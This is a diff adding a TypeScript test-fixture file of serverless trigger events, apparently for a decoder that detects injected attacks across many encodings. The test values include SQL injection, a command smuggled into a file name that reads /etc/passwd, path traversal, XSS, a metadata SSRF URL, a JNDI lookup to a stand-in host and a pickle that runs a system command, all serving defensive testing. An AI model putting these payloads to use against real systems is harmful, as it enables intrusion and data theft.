@@ -1,0 +1,266 @@
+import type { Limits } from '../../decode/limits.ts';
+
+/** Whole events: each way of decoding, each kind of trigger, each limit. Compressed data is written out, since compressors differ. */
+export interface EventCase {
+  readonly id: string;
+  readonly event: unknown;
+  /** The name of the trigger, where the caller knows it. */
+  readonly trigger?: string;
+  readonly limits?: Partial<Limits>;
+}
+
+const quote = "x' OR '1'='1";
+const shell = 'a.png; cat /etc/passwd';
+const quoted64 = 'eCcgT1IgJzEnPScx';
+const kinesis = (data: string): unknown => ({
+  Records: [{ eventSource: 'aws:kinesis', kinesis: { data } }],
+});
+const http = (more: object): unknown => ({ httpMethod: 'POST', path: '/', requestContext: {}, ...more });
+const queue = (body: string): unknown => ({ Records: [{ eventSource: 'aws:sqs', body }] });
+const key = (text: string): unknown => ({
+  Records: [{ eventSource: 'aws:s3', s3: { bucket: { name: 'b' }, object: { key: text } } }],
+});
+const notification = (message: string): string =>
+  JSON.stringify({ Type: 'Notification', TopicArn: 'arn:x', Message: message });
+const part =
+  '--x\r\nContent-Disposition: form-data; name="a"; filename="../../etc/x"\r\n\r\nneedle\r\n--x--\r\n';
+const mail = `From: a@x.example\r\nSubject: =?utf-8?Q?caf=C3=A9?=\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\ncaf=E9 need=\r\nle\r\n--b\r\nContent-Type: application/json\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="n.json"\r\n\r\neyJhIjoibmVlZGxlIn0=\r\n--b--\r\n`;
+
+export const events: readonly EventCase[] = [
+  // Values of JSON.
+  { id: 'nothing', event: null },
+  { id: 'a text', event: quote },
+  { id: 'a number', event: 42 },
+  { id: 'a list', event: [1, 'two', [null, true, { three: quote }]] },
+  {
+    id: 'keys of all kinds',
+    event: { 'a.b': 1, 'c d': { 'e"f': quote }, '': 'x', $ne: 1, __x: { $gt: '' } },
+  },
+  { id: 'a prototype', event: JSON.parse('{"__proto__":{"admin":true}}') as unknown },
+  { id: 'numbers that are bytes', event: { a: [110, 101, 101, 100, 108, 101] } },
+  { id: 'numbers that are none', event: { a: [1, 2, 3], b: [1000, 1, 2, 3], c: [1.5, 2, 3, 4] } },
+  // Formats.
+  { id: 'json in a string', event: { a: '{"b":"needle","c":[1,"x"]}' } },
+  { id: 'json twice', event: { a: JSON.stringify(JSON.stringify({ b: quote })) } },
+  { id: 'json lines', event: { a: '{"a":1}\n{"a":"needle"}\n' } },
+  { id: 'json joined', event: { a: '{"a":1}{"a":"needle"}' } },
+  { id: 'json that is none', event: { a: '{ not json }', b: '[1,', c: '"' } },
+  { id: 'a token', event: { a: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJuZWVkbGUifQ.' } },
+  { id: 'base64', event: { a: quoted64, b: 'database', c: 'YSBuZWVkbGU', d: 'bmVlZGxlPz8gPj4-' } },
+  {
+    id: 'base64 after a prefix',
+    event: { a: 'Basic dXNlcjpuZWVkbGU=', b: 'data:text/plain;base64,bmVlZGxl' },
+  },
+  { id: 'base64 of bytes', event: kinesis('AAH/yG5lZWRsZQD+') },
+  {
+    id: 'hexadecimal',
+    event: { a: '6e6565646c65206e6565646c65', b: '0x6e6565646c656e65', c: '1234567890123456' },
+  },
+  { id: 'multipart', event: { body: part } },
+  { id: 'a mail', event: { content: mail } },
+  { id: 'an encoded word', event: { subject: '=?utf-8?B?bmVlZGxl?= =?iso-8859-1?q?caf=E9_x?=' } },
+  {
+    id: 'a form',
+    event: {
+      version: '2.0',
+      rawPath: '/',
+      rawQueryString: 'q=n+eedle&q=%27&x',
+      requestContext: { http: {} },
+    },
+  },
+  { id: 'a form nobody told', event: { a: 'b=c&d%5Be%5D=f+g', c: 'a=b=c is no form', d: 'x=1' } },
+  { id: 'cookies', event: http({ headers: { cookie: 'a=1; b=n%65edle; c' } }) },
+  {
+    id: 'xml',
+    event: {
+      a: '<?xml version="1.0"?><x y="needle" z=\'1\'><b>text &amp; more</b><![CDATA[<raw>]]><c/></x>',
+    },
+  },
+  {
+    id: 'graphql',
+    event: { query: 'mutation { add(text: "need\\u006ce", more: """block "x" """) { id } }' },
+  },
+  {
+    id: 'a known prefix',
+    event: {
+      topic: 't',
+      eventType: 'x',
+      eventTime: 'y',
+      subject: '/blobServices/default/containers/c/blobs/a b',
+    },
+  },
+  // Spellings.
+  {
+    id: 'percent',
+    event: { a: 'n%65edle', b: 'n%2565edle', c: '100% sure', d: '%u0041%c0%ae%e9', e: '%zz%2' },
+  },
+  { id: 'plus', event: key('a+b%2Bc/%F0%9F%98%80') },
+  { id: 'escapes', event: { a: 'n\\u0065edl\\x65', b: '\\u{6e}eedle', c: '\\156eedle', d: 'C:\\Users' } },
+  { id: 'entities', event: { a: 'n&#x65;edl&#101', b: 'AT&T', c: '&lt;b&gt', d: '&colon;&Tab;&copy;' } },
+  {
+    id: 'unicode',
+    event: { a: '\uff4eeedle', b: '\u2215etc', c: 'zero\u200bwidth', d: 'caf\u00e9', e: '\u212aelvin' },
+  },
+  { id: 'spelled in several ways', event: { a: '%26%23x6e;eedle', b: '&#37;6e', c: '\\u0025%36%65' } },
+  // Bytes.
+  { id: 'gzip', event: kinesis('H4sIAAAAAAAAA6tWyssvSVWyUspLTU3JSVWqBQA1BF6kEQAAAA==') },
+  { id: 'deflate', event: kinesis('eJzLS01NyUlVyANTACL8BPs=') },
+  {
+    id: 'brotli',
+    event: { headers: { 'content-encoding': 'br' }, body: 'iwKAbmVlZGxlAw==', isBase64Encoded: true },
+  },
+  { id: 'aggregated records', event: kinesis('84mawhoKCAAaBm5lZWRsZeMOvKxyv8lsGsdaqFr027U=') },
+  { id: 'zstd', event: kinesis('KLUv/QcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBw==') },
+  { id: 'damaged gzip', event: kinesis('H4sIAAAAAAAAA6tWy') },
+  { id: 'utf-16', event: kinesis('//5uAGUAZQBkAGwAZQA=') },
+  { id: 'a pickle', event: kinesis('gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZA==') },
+  // Triggers with an attack.
+  { id: 'an S3 key', event: key('uploads/a.png%3B+cat+/etc/passwd') },
+  { id: 'S3 in SNS in SQS', event: queue(notification(JSON.stringify(key('a%3B+cat+/etc/passwd')))) },
+  { id: 'a queue', event: queue(JSON.stringify({ id: 7, name: quote })) },
+  { id: 'a queue of text', event: queue(shell) },
+  {
+    id: 'a notification',
+    event: { Records: [{ EventSource: 'aws:sns', Sns: { Message: JSON.stringify({ a: quote }) } }] },
+  },
+  { id: 'a body', event: http({ body: JSON.stringify({ name: quote }), isBase64Encoded: false }) },
+  { id: 'an encoded body', event: http({ body: 'eyJuYW1lIjoieCcgT1IgJzEnPScxIn0=', isBase64Encoded: true }) },
+  {
+    id: 'a path',
+    event: {
+      rawPath: '/files/%2e%2e%2f%2e%2e%2fetc/passwd',
+      rawQueryString: '',
+      requestContext: { http: {} },
+    },
+  },
+  {
+    id: 'a load balancer',
+    event: {
+      requestContext: { elb: {} },
+      httpMethod: 'GET',
+      path: '/',
+      queryStringParameters: { q: 'x%27+OR+%271%27%3D%271' },
+    },
+  },
+  {
+    id: 'at the edge',
+    event: {
+      Records: [
+        {
+          cf: {
+            request: {
+              uri: '/',
+              querystring: 'q=%3Cscript%3E',
+              body: { encoding: 'base64', data: quoted64 },
+            },
+          },
+        },
+      ],
+    },
+  },
+  {
+    id: 'a stream of a table',
+    event: {
+      Records: [
+        {
+          eventSource: 'aws:dynamodb',
+          dynamodb: { NewImage: { a: { S: quote }, b: { L: [{ N: '1' }, { S: shell }] } } },
+        },
+      ],
+    },
+  },
+  { id: 'a firehose', event: { invocationId: 'i', records: [{ recordId: '1', data: quoted64 }] } },
+  {
+    id: 'logs',
+    event: {
+      awslogs: {
+        data: 'H4sIAAAAAAAAA0WNsQqDQBAFf0VeLVysApvqIGKVSjsJYaOLCF48btdIEP89hYRMN0wxG4Ko8iDNJwoIV9/4x62sa1+VyDHNQ5XmJYLgeFU3cXj27PhItSXhAIIeXr7lZQpqN4w9CAVy2BhEjUMEFefTn/w3BmFRSdkl69gyJ9a5yKprj/2+fwEmmTQqnwAAAA==',
+      },
+    },
+  },
+  {
+    id: 'kafka',
+    event: {
+      eventSource: 'aws:kafka',
+      records: { 't-0': [{ value: quoted64, key: 'azE=', headers: [{ h: [110, 101] }] }] },
+    },
+  },
+  { id: 'rabbit', event: { eventSource: 'aws:rmq', rmqMessagesByQueue: { 'q::/': [{ data: quoted64 }] } } },
+  {
+    id: 'appsync',
+    event: { info: { fieldName: 'f', parentTypeName: 'Query' }, arguments: { where: { $ne: null } } },
+  },
+  {
+    id: 'cognito',
+    event: { triggerSource: 'CustomEmailSender_SignUp', userPoolId: 'p', request: { code: 'AYADeA==' } },
+  },
+  {
+    id: 'eventbridge',
+    event: {
+      'detail-type': 'Object Created',
+      source: 'aws.s3',
+      detail: { object: { key: 'a+%3Cscript%3E' } },
+    },
+  },
+  { id: 'pub/sub', event: { subscription: 's', message: { messageId: '1', data: quoted64 } } },
+  { id: 'firestore', event: { value: { fields: { a: { stringValue: quote } } }, updateMask: {} } },
+  { id: 'azure queue', event: { queueTrigger: quoted64, popReceipt: 'x' } },
+  {
+    id: 'azure event grid',
+    event: {
+      topic: 't',
+      eventType: 'x',
+      eventTime: 'y',
+      subject: `/blobServices/default/containers/c/blobs/${shell}`,
+    },
+  },
+  { id: 'known beforehand', event: { key: 'a+b' }, trigger: 's3' },
+  { id: 'known wrongly', event: { key: 'a+b' }, trigger: 'nobody' },
+  // One class each, and none.
+  {
+    id: 'all classes',
+    event: {
+      a: quote,
+      b: shell,
+      c: '<script>alert(1)</script>',
+      d: '../../../etc/passwd',
+      e: 'http://169.254.169.254/',
+      f: '{{7*7}}',
+      g: '${jndi:ldap://x/a}',
+      h: '*)(uid=*))(|(uid=*',
+      i: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///a">]>',
+      j: 'a\r\nSet-Cookie: b=c',
+      k: "require('fs').readFileSync('x')",
+      l: 'O:4:"Evil":1:{s:1:"a";i:1;}',
+      m: 'a[constructor][prototype][b]=1',
+      n: '(a+)+$',
+      o: { $where: '1' },
+    },
+  },
+  {
+    id: 'harmless',
+    event: {
+      name: "Conan O'Brien",
+      note: 'call at 10 or 11; bring tea & cake',
+      when: '2026-11-25',
+      url: 'https://example.com/a?b=c',
+      html: '<p>Hello <b>you</b></p>',
+      code: 'if (a < b) { return; }',
+    },
+  },
+  { id: 'the same found twice', event: { a: `%27${quote}` } },
+  // Limits.
+  { id: 'decoded too often', event: { a: 'e2EiOiJ4In0=', b: '%252525252565' }, limits: { maxDepth: 2 } },
+  { id: 'too much text', event: { a: '0123456789', b: quote, c: 'x' }, limits: { maxText: 16 } },
+  { id: 'too many values', event: [1, 2, 3, 4, 5, quote], limits: { maxNodes: 4 } },
+  {
+    id: 'too large when inflated',
+    event: kinesis('H4sIAAAAAAAAA6tWyssvSVWyUspLTU3JSVWqBQA1BF6kEQAAAA=='),
+    limits: { maxInflate: 5 },
+  },
+  {
+    id: 'many places cut',
+    event: { a: ['111', '222', '333', '444', '555'] },
+    limits: { maxText: 4, maxReported: 2 },
+  },
+];
